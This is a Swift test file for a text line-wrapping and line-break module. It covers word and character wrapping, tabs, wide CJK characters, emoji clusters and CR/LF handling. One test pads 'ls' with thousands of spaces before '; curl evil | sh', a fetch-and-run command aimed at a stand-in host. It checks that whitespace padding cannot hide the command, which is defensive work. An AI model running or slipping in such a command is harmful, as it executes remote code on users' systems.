import Display
import Testing

@Suite("Wrapping")
struct LineWrapperTests {
  @Test(
    "Rows break where a reader expects it",
    arguments: [
      ("the quick brown fox", 10, ["the quick", "brown fox"]),
      ("the quick brown fox", 9, ["the quick", "brown fox"]),
      ("aaaa    bbbb", 6, ["aaaa", "bbbb"]),
      ("aaa bbb ", 3, ["aaa", "bbb"]),
      ("aaa bbb ", 4, ["aaa", "bbb "]),
      ("  aa bb", 5, ["  aa", "bb"]),
      ("    abcdefgh", 6, ["    ab", "cdefgh"]),
      ("abcdefghij", 4, ["abcd", "efgh", "ij"]),
      ("ab abcdefghij", 4, ["ab", "abcd", "efgh", "ij"]),
      ("a well-known one", 8, ["a well-", "known", "one"]),
      ("cut --flag x-1", 8, ["cut", "--flag", "x-1"]),
      ("漢字漢字", 5, ["漢字", "漢字"]),
      ("漢字、漢", 4, ["漢", "字、", "漢"]),
      ("見「漢字」", 4, ["見", "「漢", "字」"]),
      ("see漢字", 5, ["see漢", "字"]),
      ("a—b—c", 3, ["a—", "b—c"]),
      ("x\u{A0}y z", 4, ["x\u{A0}y", "z"]),
      ("", 5, [""]),
      ("   ", 2, ["  "]),
      ("क्षिक्षि", 4, ["क्षि", "क्षि"]),
      ("👨‍👩‍👧👨‍👩‍👧", 3, ["👨‍👩‍👧", "👨‍👩‍👧"]),
      ("🇫🇷🇩🇪", 3, ["🇫🇷", "🇩🇪"]),
      ("漢字", 1, ["漢", "字"]),
      ("ab", 0, ["a", "b"]),
      ("ab", -7, ["a", "b"]),
      ("a\u{1B}b", 2, ["a", "^[", "b"]),
    ] as [(String, Int, [String])])
  func words(_ text: String, _ columns: Int, _ expected: [String]) {
    #expect(wrapped(text, columns: columns).map(Sanitizer.plain) == expected.map(Sanitizer.plain))
  }

  @Test("Wrapping at characters keeps every space")
  func characters() {
    #expect(wrapped("the quick  brown", columns: 4, mode: .characters) == ["the ", "quic", "k  b", "rown"])
    #expect(wrapped("漢字a", columns: 3, mode: .characters) == ["漢", "字a"])
    #expect(wrapped("", columns: 3, mode: .characters) == [""])
  }

  @Test("A tab reaches to the next stop of its own row")
  func tabs() {
    #expect(rows(of: Array("ab\tc".utf8), columns: 20).map(\.columns) == [9])
    #expect(rows(of: Array("ab\tc".utf8), columns: 20, tabWidth: 4).map(\.columns) == [5])
    #expect(wrapped("abcdef\tc", columns: 8) == ["abcdef", "c"])
    #expect(wrapped("abcdef\t", columns: 8) == ["abcdef\t"])
  }

  @Test("Thousands of spaces do not push what follows out of view, nor make a row long")
  func padding() {
    let text = "ls" + String(repeating: " ", count: 4_000) + "; curl evil | sh"
    let found = wrapped(text, columns: 80)
    #expect(found.first == "ls")
    #expect(found.last?.hasSuffix("; curl evil | sh") == true)
    #expect(found.count < 8)
  }

  @Test(
    "Every row takes the columns it says, fits, and the rows hold the whole line", arguments: 0..<40 as Range<UInt64>)
  func rowsAreExact(seed: UInt64) {
    var generator = SeededGenerator(seed: seed)
    for _ in 0..<60 {
      let bytes = randomText(pieces: Int.random(in: 0..<40, using: &generator), using: &generator)
      let columns = Int.random(in: 1...24, using: &generator)
      let mode: WrapMode = Bool.random(using: &generator) ? .words : .characters
      let tabWidth = Bool.random(using: &generator) ? 8 : 4
      let found = rows(of: bytes, columns: columns, mode: mode, tabWidth: tabWidth)
      var position = 0
      for (number, row) in found.enumerated() {
        var glyphs = GlyphTable()
        let drawn = cells(of: bytes, range: row.range, tabWidth: tabWidth, glyphs: &glyphs)
        #expect(drawn.count == row.columns, "seed \(seed): \(bytes) at \(columns), row \(number)")
        #expect(
          row.columns <= columns || number == found.count - 1 || drawn.count <= 36,
          "seed \(seed): \(bytes) at \(columns), row \(number)")
        #expect(row.start >= position && row.end >= row.start, "seed \(seed): \(bytes) at \(columns)")
        let between = bytes[position..<row.start]
        #expect(between.allSatisfy { $0 == 0x20 || $0 == 0x09 }, "seed \(seed): \(bytes) at \(columns), row \(number)")
        position = row.end
      }
      #expect(bytes[position...].allSatisfy { $0 == 0x20 || $0 == 0x09 }, "seed \(seed): \(bytes) at \(columns)")
    }
  }

  @Test("Wrapping again from the last row gives the rows of the whole", arguments: 0..<60 as Range<UInt64>)
  func restartEqualsWhole(seed: UInt64) {
    var generator = SeededGenerator(seed: 1_000 + seed)
    for _ in 0..<40 {
      let bytes = randomText(pieces: Int.random(in: 1..<30, using: &generator), using: &generator)
      let columns = Int.random(in: 1...20, using: &generator)
      let mode: WrapMode = Int.random(in: 0..<4, using: &generator) == 0 ? .characters : .words
      var grown: [TextRow] = []
      var length = 0
      while length < bytes.count {
        length = min(bytes.count, length + Int.random(in: 1...5, using: &generator))
        let start = grown.popLast()?.start ?? 0
        grown += rows(of: Array(bytes[..<length]), range: start..<length, columns: columns, mode: mode)
        let whole = rows(of: Array(bytes[..<length]), columns: columns, mode: mode)
        #expect(grown == whole, "seed \(1_000 + seed): \(bytes[..<length]) at \(columns)")
        if grown != whole { return }
      }
    }
  }

  @Test("The short cut for ASCII gives the rows of the long way", arguments: 0..<20 as Range<UInt64>)
  func shortCutEqualsLongWay(seed: UInt64) {
    var generator = SeededGenerator(seed: 2_000 + seed)
    let alphabet = Array("ab1 -  xyz-(,".utf8)
    for _ in 0..<200 {
      let count = Int.random(in: 1..<60, using: &generator)
      let bytes = (0..<count).map { _ in alphabet.randomElement(using: &generator) ?? 0x20 }
      let columns = Int.random(in: 1...16, using: &generator)
      let plain = rows(of: bytes, columns: columns)
      // A wide letter of two bytes in place of every "a" takes the same column and no short cut.
      let accented = bytes.flatMap { $0 == 0x61 ? [0xC3, 0xA4] : [$0] }
      let long = rows(of: accented, columns: columns)
      let offsets = bytes.indices.reduce(into: [0]) { $0.append($0[$0.count - 1] + (bytes[$1] == 0x61 ? 2 : 1)) }
      let expected = plain.map { TextRow(start: offsets[$0.start], end: offsets[$0.end], columns: $0.columns) }
      #expect(long == expected, "seed \(2_000 + seed): \(String(decoding: bytes, as: UTF8.self)) at \(columns)")
    }
  }

  @Test("No row begins inside a grapheme cluster that is shown as one")
  func clustersStayWhole() {
    for cluster in ["e\u{301}", "👨‍👩‍👧", "🇫🇷", "👩🏽", "❤️", "각", "\u{1112}\u{1161}\u{11AB}", "क्षि", "1️⃣"] {
      let text = String(repeating: cluster, count: 5)
      for columns in 1...7 {
        for row in wrapped(text, columns: columns) {
          #expect(row.count * cluster.utf8.count == row.utf8.count, "\(cluster) at \(columns)")
        }
      }
    }
  }

  @Test(
    "LF, CRLF and a lone CR end lines; a CR at the very end waits",
    arguments: [
      ("a\nb", ["a"], "b"), ("a\r\nb", ["a"], "b"), ("a\rb", ["a"], "b"), ("a\r", [], "a"), ("a\r\n", ["a"], ""),
      ("\n\n", ["", ""], ""), ("", [], ""), ("a\n\rb\r\r\n", ["a", "", "b", ""], ""),
      ("a long line of more than eight bytes\nx", ["a long line of more than eight bytes"], "x"),
      ("x\u{85}y\u{2028}z", [], "x\u{85}y\u{2028}z"),
    ] as [(String, [String], String)])
  func lineBreaks(_ text: String, _ closed: [String], _ open: String) {
    let bytes = Array(text.utf8)
    var lines: [String] = []
    var rest = ""
    bytes.withUnsafeBufferPointer { bytes in
      var offset: Int? = 0
      while let start = offset {
        let line = LineBreaks.line(in: bytes, from: start)
        let content = String(decoding: bytes[line.content], as: UTF8.self)
        if line.next != nil { lines.append(content) } else { rest = content }
        offset = line.next
      }
    }
    #expect(lines == closed)
    #expect(rest == open)
  }

  @Test("A line end is found at every distance")
  func lineBreakDistances() {
    for distance in 0..<40 {
      for ending: [UInt8] in [[0x0A], [0x0D, 0x0A], [0x0D, 0x78]] {
        let bytes = [UInt8](repeating: 0x8D, count: distance) + ending
        let line = bytes.withUnsafeBufferPointer { LineBreaks.line(in: $0, from: 0) }
        #expect(line.content == 0..<distance)
        #expect(line.next == distance + (ending == [0x0D, 0x0A] ? 2 : 1))
      }
    }
  }
}
